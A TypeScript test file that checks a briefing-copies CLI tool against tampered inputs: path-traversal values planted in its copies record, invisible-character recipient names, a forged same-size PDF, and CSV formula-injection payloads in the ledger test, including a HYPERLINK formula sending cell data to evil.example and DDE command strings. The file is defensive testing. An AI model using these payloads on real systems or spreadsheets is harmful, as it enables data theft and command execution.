/**
 * Records briefs reads back from dist/, and lists it takes from the workspace, written by
 * someone else: a planted copies record, a PDF put in an issue's place with its size and time
 * copied, recipients with invisible characters, and recipient names a spreadsheet would run.
 * Each is checked before it is used, and a run that refuses one leaves what was there whole.
 */
import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { parse } from 'csv-parse/sync';
import { cpSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runCli } from '../helpers/run-cli.js';
import { snapshotFiles } from '../helpers/workspace.js';

const repo = path.resolve(__dirname, '../..');
let outer: string;
let dir: string;
const cli = (...args: string[]) => runCli(['--root', dir, ...args]);
const record = () => path.join(dir, 'dist/.briefs-copies.json');
const copiesDir = () => path.join(dir, 'dist/copies/qingkuang-2026-001');
const issueFile = (id: string) => path.join(dir, `briefs/issues/${id}.md`);
const sha = (file: string) => createHash('sha256').update(readFileSync(file)).digest('hex');
const ledgerRows = () =>
  readFileSync(path.join(copiesDir(), 'ledger.csv'), 'utf8')
    .replace(/^\uFEFF/, '')
    .trim()
    .split('\r\n')
    .slice(1);

beforeAll(() => {
  // The workspace one folder down, so that a path that climbs out of it is seen.
  outer = mkdtempSync(path.join(os.tmpdir(), 'briefs-planted-'));
  dir = path.join(outer, 'ws');
  cpSync(path.join(repo, 'briefs'), path.join(dir, 'briefs'), { recursive: true });
});

afterAll(() => rmSync(outer, { recursive: true, force: true }));

describe('a planted copies record', () => {
  it('is dropped whole, said, and never gives one 份号 twice or writes outside the copies folder', async () => {
    const first = await cli('copies', 'qingkuang/2026/1');
    expect(first.code, first.stderr).toBe(0);
    const good = JSON.parse(readFileSync(record(), 'utf8')) as {
      issues: Record<string, { serials: { next: number; given: Record<string, number[]> }; files: Record<string, unknown> }>;
    };
    const keys = Object.keys(good.issues['qingkuang/2026/1'].serials.given);
    const planted = (change: (r: (typeof good.issues)[string]) => void) => {
      const r = structuredClone(good.issues['qingkuang/2026/1']);
      change(r);
      writeFileSync(record(), JSON.stringify({ issues: { 'qingkuang/2026/1': r } }));
    };
    const shapes: [string, (r: (typeof good.issues)[string]) => void][] = [
      ['a path for a 份号', (r) => (r.serials.given[keys[0]] = ['../../../../PWNED-outside' as unknown as number])],
      ['a file named outside', (r) => (r.files['../../../../PWNED-outside'] = { sha256: '0'.repeat(64), recipient: 'x' })],
      ['one 份号 for two recipients', (r) => (r.serials.given[keys[1]] = [...r.serials.given[keys[0]]])],
      ['not a number', (r) => (r.serials.given[keys[0]] = [null as unknown as number])],
      ['too large', (r) => (r.serials.given[keys[0]] = [1e300])],
      ['an object', (r) => (r.serials.given[keys[0]] = [{} as unknown as number])],
      ['a next below what was given', (r) => (r.serials.next = 1)],
      ['a next that is not whole', (r) => (r.serials.next = 2.5)],
    ];
    for (const [what, change] of shapes) {
      planted(change);
      const run = await cli('copies', 'qingkuang/2026/1', '--json');
      expect(run.code, `${what}: ${run.stderr}`).toBe(0);
      expect(run.stderr, what).toContain('copies-record-invalid');
      const serials = (JSON.parse(run.stdout) as { copies: { serial: string }[] }).copies.map((c) => c.serial);
      expect(
        serials.every((s) => /^\d{6}$/.test(s)),
        what,
      ).toBe(true);
      expect(new Set(serials).size, what).toBe(serials.length);
      const files = ledgerRows().map((row) => row.split(',')[4]);
      expect(new Set(files).size, what).toBe(files.length);
      expect(
        readdirSync(copiesDir()).every((n) => /^(\d{6}\.pdf|ledger\.(csv|pdf)|\.master\.pdf)$/.test(n)),
        what,
      ).toBe(true);
      expect(
        readdirSync(outer).filter((n) => n !== 'reference'),
        what,
      ).toEqual(['ws']);
      expect(
        readdirSync(path.join(dir, 'dist')).some((n) => /PWNED|NaN|e\+|object/.test(n)),
        what,
      ).toBe(false);
    }
    // What the last run wrote is a record briefs reads again without a word.
    const again = await cli('copies', 'qingkuang/2026/1');
    expect(again.code).toBe(0);
    expect(again.stderr).not.toContain('copies-record-invalid');
  });
});

describe('recipients a reader cannot tell apart', () => {
  it('are located errors in validate, and copies writes nothing: the last copies and ledger stay whole', async () => {
    expect((await cli('copies', 'qingkuang/2026/1')).code).toBe(0);
    const before = snapshotFiles(copiesDir());
    const original = readFileSync(issueFile('qingkuang/2026/001'), 'utf8');
    // Written as YAML escapes, so that the file itself holds no invisible character.
    try {
      for (const [name, codepoint] of [
        ['科技\\u200b部', 'U+200B'],
        ['教育\\u202e部', 'U+202E'],
        ['中国\\u2060科学院', 'U+2060'],
        ['中国工程院\\u0007', 'U+0007'],
      ]) {
        writeFileSync(issueFile('qingkuang/2026/001'), original.replace('送: [科技部, 教育部,', `送: [科技部, "${name}", 教育部,`));
        const v = await cli('validate', '--json');
        expect(v.code, name).toBe(1);
        const errors = (JSON.parse(v.stdout) as { errors: { file: string; line: number; field: string; code: string; message: string }[] }).errors;
        const found = errors.find((e) => e.code === 'recipient-invisible');
        expect(found, name).toMatchObject({ file: 'briefs/issues/qingkuang/2026/001.md', field: 'distribution' });
        expect(found!.line).toBeGreaterThan(1);
        expect(found!.message).toContain(codepoint);
        // The issue file has an error: copies refuses it before anything is stamped.
        const c = await cli('copies', 'qingkuang/2026/1');
        expect(c.code, name).not.toBe(0);
        expect(snapshotFiles(copiesDir())).toEqual(before);
      }
    } finally {
      writeFileSync(issueFile('qingkuang/2026/001'), original);
    }
  });

  it('in a recipients list, on the list’s own line', async () => {
    writeFileSync(path.join(dir, 'briefs/recipients.csv'), 'name,group,copies\n科技部,送,1\n"科技\u200b部",送,1\n');
    const original = readFileSync(issueFile('qingkuang/2026/001'), 'utf8');
    writeFileSync(issueFile('qingkuang/2026/001'), original.replace('copies: 120\n', 'copies: 120\nrecipients: briefs/recipients.csv\n'));
    try {
      const v = await cli('validate', '--json');
      expect(v.code).toBe(1);
      const errors = (JSON.parse(v.stdout) as { errors: { file: string; line: number; code: string }[] }).errors;
      expect(errors, JSON.stringify(errors)).toContainEqual(expect.objectContaining({ code: 'recipient-invisible', file: 'briefs/recipients.csv', line: 3 }));
    } finally {
      writeFileSync(issueFile('qingkuang/2026/001'), original);
    }
  });
});

describe('the ledger for a spreadsheet', () => {
  it('writes no cell a spreadsheet would take as a formula', async () => {
    const names = ['=HYPERLINK("http://evil.example/?"&A1,"点此")', "+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", '-2+3', '\t=1+1', '普通单位'];
    writeFileSync(path.join(dir, 'briefs/recipients.yaml'), names.map((n) => `- {name: ${JSON.stringify(n)}, group: "=1+2"}`).join('\n'));
    const original = readFileSync(issueFile('qingkuang/2026/001'), 'utf8');
    writeFileSync(issueFile('qingkuang/2026/001'), original.replace('copies: 120\n', 'copies: 120\nrecipients: briefs/recipients.yaml\n'));
    try {
      const run = await cli('copies', 'qingkuang/2026/1');
      expect(run.code, run.stderr).toBe(0);
      const rows = ledgerRows();
      expect(rows).toHaveLength(names.length);
      // Every cell, as a spreadsheet reads it (unquoted), starts with something it shows as text.
      for (const cells of parse(rows.join('\r\n')) as string[][]) for (const cell of cells) expect(cell, cells.join(',')).not.toMatch(/^[=+\-@\t\r]/);
      expect(rows.join('\n')).toContain(`'-2+3`);
      expect(rows.join('\n')).toContain('普通单位');
    } finally {
      writeFileSync(issueFile('qingkuang/2026/001'), original);
    }
  });
});

describe('a PDF put in an issue’s place', () => {
  it('with its size and times copied is printed again, and never bound into the volume', async () => {
    expect((await cli('generate', 'jianyi/2026/1', 'jianyi/2026/2', 'jianyi/2026/3')).code).toBe(0);
    const pdf = path.join(dir, 'dist/jianyi-2026-001.pdf');
    const original = readFileSync(pdf);
    const reference = path.join(outer, 'reference');
    const plant = () => {
      const st = statSync(pdf);
      execFileSync('touch', ['-r', pdf, reference]);
      const bytes = Buffer.from(original);
      // Another document of the same size: one character of its ID changed.
      const at = bytes.lastIndexOf('/ID [');
      const hex = bytes.indexOf('<', at) + 1;
      bytes[hex] = bytes[hex] === 0x41 ? 0x42 : 0x41;
      writeFileSync(pdf, bytes);
      execFileSync('touch', ['-r', reference, pdf]);
      expect(statSync(pdf).size).toBe(st.size);
      expect(statSync(pdf).mtimeMs).toBe(st.mtimeMs);
    };
    plant();
    const gen = await cli('generate', 'jianyi/2026/1', '--json');
    expect((JSON.parse(gen.stdout) as { issues: { status: string }[] }).issues[0].status).toBe('printed');
    expect(sha(pdf)).toBe(createHash('sha256').update(original).digest('hex'));

    plant();
    const vol = await cli('volume', 'jianyi', '2026', '--drafts');
    expect(vol.code, vol.stderr).toBe(0);
    // The volume printed the issue again before binding it: the PDF on disk is the issue's own.
    expect(sha(pdf)).toBe(createHash('sha256').update(original).digest('hex'));
  });
});

describe('a year with an issue file that cannot be read', () => {
  it('is no volume: the file’s own errors are said, not a gap', async () => {
    const file = issueFile('jianyi/2026/002');
    const original = readFileSync(file, 'utf8');
    writeFileSync(file, original.replace(/^date: .*$/m, 'date: 2026-13-45'));
    try {
      const vol = await cli('--lang', 'en', 'volume', 'jianyi', '2026', '--drafts');
      expect(vol.code).toBe(1);
      expect(vol.stderr).toContain('briefs/issues/jianyi/2026/002.md');
      expect(vol.stderr).toContain('impossible-date');
      expect(vol.stderr).not.toContain('has no issue file');
    } finally {
      writeFileSync(file, original);
    }
  });
});
